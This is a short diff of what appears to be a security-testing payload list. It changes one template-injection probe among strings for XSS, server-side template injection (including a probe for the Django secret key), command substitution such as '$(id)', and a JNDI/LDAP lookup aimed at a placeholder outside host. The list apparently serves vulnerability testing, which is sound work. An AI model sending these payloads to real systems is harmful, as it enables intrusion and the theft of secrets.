@@ -36,7 +36,7 @@ MARKUP = [
     b"<svg/onload=x>" + ELEMENT + b" ", b"<a href=" + SCRIPT_ADDRESS + b">",
 ]  # fmt: skip
 TEMPLATES = [
-    b"{{ 7777|add:7777 }}", b"{{7777*7777}}", b"${7777*7777}", b"#{7777*7777}", b"<%= 7777*7777 %>", b"{% debug %}", b"{% load x %}",
+    b"{% widthratio 7777 1 7777 %}", b"{{7777*7777}}", b"${7777*7777}", b"#{7777*7777}", b"<%= 7777*7777 %>", b"{% debug %}", b"{% load x %}",
     b"{{ settings.SECRET_KEY }}", b"{0.__class__}", b"%(name)s%s%n%d", b"{name}", b"%", b"%%%", b"{% csrf_token %}", b"$(id)", b"`id`",
     b"${jndi:ldap://" + ELSEWHERE + b"/a}",
 ]  # fmt: skip
